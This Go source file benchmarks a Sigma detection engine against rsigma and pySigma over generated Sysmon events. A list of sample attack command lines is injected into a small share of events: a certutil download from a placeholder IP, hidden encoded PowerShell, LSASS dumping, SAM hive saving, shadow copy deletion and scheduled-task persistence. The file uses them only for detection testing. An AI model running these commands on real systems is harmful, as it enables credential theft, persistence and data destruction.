// Command sigma measures Sigma rules over a stream of Windows events: this engine beside rsigma and
// the SQL of pySigma, in one run.
//
//	go -C bench run ./sigma -rsigma BINARY -python PYTHON RULES...
//
// RULES are directories of Sigma rules, such as rules/windows of a checkout. The events are
// generated: what a machine with Sysmon writes by itself, in the mix in which it writes it, and one
// in two hundred that looks like an attack. Each engine reads them as lines of JSON; that is part
// of what is measured, in CPU time of one thread, the least of several rounds. What each finds is
// compared: a ratio of different hits means nothing.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"io/fs"
	"math"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"github.com/log-monitoring/alert-engine/internal/decode"
	"github.com/log-monitoring/alert-engine/internal/imports"
	"github.com/log-monitoring/alert-engine/internal/imports/sigma"
	"github.com/log-monitoring/alert-engine/internal/match"
	"github.com/log-monitoring/alert-engine/internal/rule"
	"github.com/log-monitoring/alert-engine/pkg/models"
)

var (
	count  = flag.Int("events", 20_000, "how many events there are")
	rounds = flag.Int("rounds", 3, "how often each engine reads them")
	large  = flag.Bool("large", false, "process creations of 3 KB instead of the natural mix")
	rsigma = flag.String("rsigma", "", "the binary of rsigma/; none to leave it out")
	python = flag.String("python", "", "a python with pySigma's SQLite backend")
	dir    = flag.String("dir", os.TempDir(), "where events and hits are written")
)

func main() {
	flag.Parse()
	runtime.GOMAXPROCS(1)
	if err := run(flag.Args()); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func run(rules []string) error {
	events := generate(*count, *large)
	name := filepath.Join(*dir, "events.jsonl")
	if err := os.WriteFile(name, []byte(strings.Join(events, "\n")+"\n"), 0o600); err != nil {
		return err
	}
	size := 0
	for _, e := range events {
		size += len(e)
	}
	fmt.Printf("%d events, %d bytes each\n", len(events), size/len(events))
	ours, err := evaluate(rules, events)
	if err != nil {
		return err
	}
	number := strconv.Itoa(*rounds)
	if *rsigma != "" {
		hits := filepath.Join(*dir, "rsigma.hits")
		args := append([]string{number, hits, name}, rules...)
		if err := peer(ours, hits, *rsigma, args...); err != nil {
			return err
		}
	}
	if *python != "" {
		hits := filepath.Join(*dir, "pysigma.hits")
		args := append([]string{"sigma/pysigma.py", hits, name}, rules...)
		return peer(ours, hits, *python, args...)
	}
	return nil
}

// evaluate holds the rules against the events, and returns the hits.
func evaluate(paths, events []string) (map[string]bool, error) {
	files, err := read(paths)
	if err != nil {
		return nil, err
	}
	translation := sigma.Read(files, sigma.Options{})
	set, err := rule.LoadDocuments(translation.Documents, nil)
	if err != nil {
		return nil, err
	}
	translation.Refuse(set, 0)
	var queries []rule.Query
	for _, r := range set.Rules {
		queries = append(queries, r.Match)
	}
	records := make([]models.Record, len(events))
	for i, e := range events {
		records[i] = models.Record{Timestamp: time.Unix(1_800_000_000, 0), Value: []byte(e)}
	}
	index, err := match.Compile(queries, match.Options{Sample: sample(records)})
	if err != nil {
		return nil, err
	}
	d, err := decode.New(decode.Config{Format: "json"}, index.Fields())
	if err != nil {
		return nil, err
	}
	m := index.NewMatcher()
	hits := map[string]bool{}
	var ids []int32
	least, found := math.MaxFloat64, 0
	for round := range *rounds {
		began := cpu()
		found = 0
		for i := range records {
			d.Decode(&records[i], func(l *decode.Log) {
				ids = m.Match(l, ids[:0])
				found += len(ids)
				if round == 0 {
					for _, id := range ids {
						hits[fmt.Sprint(i, " ", set.Rules[id].UID)] = true
					}
				}
			}, func(decode.Reason, string) {})
		}
		if round > 0 || *rounds == 1 {
			least = min(least, cpu()-began)
		}
	}
	fmt.Printf("alert-engine: %d rules, %d refused, %d events, %d hits, %.0f events/s of CPU\n",
		len(set.Rules), translation.Report.Count(imports.Refused), len(events), found,
		float64(len(events))/least)
	return hits, nil
}

// sample is the events that the index is planned by, as the program plans it by those that go by.
func sample(records []models.Record) func(*decode.Fields, func(*decode.Log)) {
	return func(fields *decode.Fields, each func(*decode.Log)) {
		d, err := decode.New(decode.Config{Format: "json"}, fields)
		if err != nil {
			panic(err) // the format is known
		}
		for i := range min(len(records), 4096) {
			d.Decode(&records[i], each, func(decode.Reason, string) {})
		}
	}
}

func read(paths []string) (files []imports.File, err error) {
	for _, path := range paths {
		err := filepath.WalkDir(path, func(name string, entry fs.DirEntry, err error) error {
			if err != nil || filepath.Ext(name) != ".yml" {
				return err
			}
			data, err := os.ReadFile(name)
			files = append(files, imports.File{Name: name, Data: data})
			return err
		})
		if err != nil {
			return nil, err
		}
	}
	return files, nil
}

// peer runs another engine, and compares what it found.
func peer(ours map[string]bool, hits, name string, args ...string) error {
	cmd := exec.Command(name, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	if err := cmd.Run(); err != nil {
		return fmt.Errorf("%s: %w", name, err)
	}
	f, err := os.Open(hits)
	if err != nil {
		return err
	}
	defer f.Close()
	theirs, both := map[string]bool{}, 0
	for lines := bufio.NewScanner(f); lines.Scan(); {
		theirs[lines.Text()] = true
		if ours[lines.Text()] {
			both++
		}
	}
	fmt.Printf("  %d hits of both, %d only there, %d only here\n", both, len(theirs)-both,
		len(ours)-both)
	rules := map[string]int{}
	for hit := range ours {
		if _, id, _ := strings.Cut(hit, " "); !theirs[hit] {
			rules["only here "+id]++
		}
	}
	for hit := range theirs {
		if _, id, _ := strings.Cut(hit, " "); !ours[hit] {
			rules["only there "+id]++
		}
	}
	var names []string
	for id, n := range rules {
		names = append(names, fmt.Sprintf("%s: %d", id, n))
	}
	slices.Sort(names)
	for _, line := range names[:min(len(names), 10)] {
		fmt.Println("    " + line)
	}
	return nil
}

// cpu is the CPU time of the process in seconds.
func cpu() float64 {
	var r syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &r); err != nil {
		panic(err)
	}
	return float64(r.Utime.Sec+r.Stime.Sec) + float64(r.Utime.Usec+r.Stime.Usec)/1e6
}

// kinds are the events of a machine with Sysmon and its security log, by how often they occur.
var kinds = []struct {
	weight  int
	id      int
	channel string
	fields  string
}{
	{28, 13, sysmon, "Image TargetObject Details User"},
	{20, 7, sysmon, "Image ImageLoaded Hashes Signed Signature User"},
	{14, 10, sysmon, "SourceImage TargetImage GrantedAccess CallTrace SourceUser TargetUser"},
	{10, 3, sysmon, "Image User Protocol DestinationIp DestinationPort DestinationHostname"},
	{9, 11, sysmon, "Image TargetFilename User"},
	{6, 1, sysmon, processFields},
	{4, 22, sysmon, "Image QueryName QueryResults User"},
	{3, 12, sysmon, "Image TargetObject User"},
	{4, 4624, "Security", "TargetUserName LogonType IpAddress LogonProcessName WorkstationName"},
	{2, 5156, "Security", "Application DestinationIp DestinationPort Protocol"},
}

const (
	sysmon        = "Microsoft-Windows-Sysmon/Operational"
	processFields = "Image CommandLine ParentImage ParentCommandLine User Hashes " +
		"OriginalFileName Company Product Description CurrentDirectory IntegrityLevel"
)

var (
	programs = strings.Fields("svchost.exe explorer.exe chrome.exe msedge.exe MsMpEng.exe " +
		"SearchIndexer.exe services.exe lsass.exe RuntimeBroker.exe Teams.exe OUTLOOK.EXE " +
		"WmiPrvSE.exe taskhostw.exe conhost.exe OneDrive.exe powershell.exe cmd.exe")
	folders = []string{
		`C:\Windows\System32\`, `C:\Program Files\Common Files\`, `C:\Windows\SysWOW64\`,
		`C:\Program Files (x86)\Microsoft\Edge\Application\`, `C:\Users\ann\AppData\Local\`,
	}
	attacks = []string{
		`certutil.exe -urlcache -split -f http://192.0.2.7/a.exe C:\Users\Public\a.exe`,
		`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`,
		`cmd.exe /c whoami /all & net group "domain admins" /domain`,
		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full`,
		`reg.exe save hklm\sam C:\Temp\sam.save`, `vssadmin.exe delete shadows /all /quiet`,
		`schtasks /create /sc onlogon /tn upd /tr C:\Users\Public\a.exe /ru system`,
	}
)

// generate makes the events, the same each time.
func generate(n int, large bool) []string {
	r := rand.New(rand.NewPCG(17, 17))
	var weights []int
	for i, k := range kinds {
		for range k.weight {
			weights = append(weights, i)
		}
	}
	events := make([]string, n)
	for i := range events {
		k := kinds[weights[r.IntN(len(weights))]]
		if large {
			k = kinds[5]
		}
		e := map[string]any{
			"EventID": k.id, "Channel": k.channel, "Computer": fmt.Sprintf("ws-%d.corp", r.IntN(50)),
			"UtcTime": "2026-01-05 09:00:00.000", "ProcessId": r.IntN(30_000), "RuleName": "-",
			"ProcessGuid": fmt.Sprintf("{%08x-1bd1-65a0-0900-%012x}", r.Uint32(), r.Uint64()>>16),
		}
		for _, name := range strings.Fields(k.fields) {
			e[name] = value(r, name, large)
		}
		text, err := json.Marshal(e)
		if err != nil {
			panic(err) // texts and numbers
		}
		events[i] = string(text)
	}
	return events
}

// value is what an event has in a field.
func value(r *rand.Rand, name string, large bool) string {
	program := folders[r.IntN(len(folders))] + programs[r.IntN(len(programs))]
	switch {
	case strings.Contains(name, "CommandLine"):
		if r.IntN(200) == 0 {
			return attacks[r.IntN(len(attacks))]
		}
		text := fmt.Sprintf(`"%s" --type=renderer --lang=de --id=%d`, program, r.IntN(1000))
		for large && len(text) < 1000 {
			text += fmt.Sprintf(" --feature-%d=%x", r.IntN(100), r.Uint64())
		}
		return text
	case strings.HasSuffix(name, "Image"), name == "Application":
		return program
	case name == "ImageLoaded":
		return fmt.Sprintf(`C:\Windows\System32\mod%d.dll`, r.IntN(400))
	case name == "TargetObject":
		return fmt.Sprintf(`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\App\key%d\Value%d`,
			r.IntN(300), r.IntN(20))
	case name == "TargetFilename":
		return fmt.Sprintf(`C:\Users\ann\AppData\Local\Temp\tmp%x.tmp`, r.Uint32())
	case name == "Details", name == "GrantedAccess":
		return fmt.Sprintf("0x%x", r.IntN(1<<20))
	case name == "CallTrace":
		return fmt.Sprintf(`C:\Windows\SYSTEM32\ntdll.dll+9d%x|C:\Windows\System32\KERNELBASE.dll`+
			`+2%x|UNKNOWN(%016x)`, r.IntN(4096), r.IntN(4096), r.Uint64())
	case name == "Hashes":
		return fmt.Sprintf("SHA1=%016X%016X%08X,MD5=%016X%016X,IMPHASH=%016X%016X", r.Uint64(),
			r.Uint64(), r.Uint32(), r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
	case strings.HasSuffix(name, "Ip"), name == "IpAddress":
		return fmt.Sprintf("10.%d.%d.%d", r.IntN(4), r.IntN(256), r.IntN(256))
	case strings.HasSuffix(name, "Port"):
		return []string{"443", "80", "53", "445", "8080"}[r.IntN(5)]
	case strings.Contains(name, "User"):
		return fmt.Sprintf(`CORP\user%d`, r.IntN(200))
	case name == "QueryName", name == "DestinationHostname":
		return fmt.Sprintf("host%d.example.com", r.IntN(500))
	case name == "LogonType":
		return "3"
	case name == "OriginalFileName":
		return programs[r.IntN(len(programs))]
	}
	return "-"
}
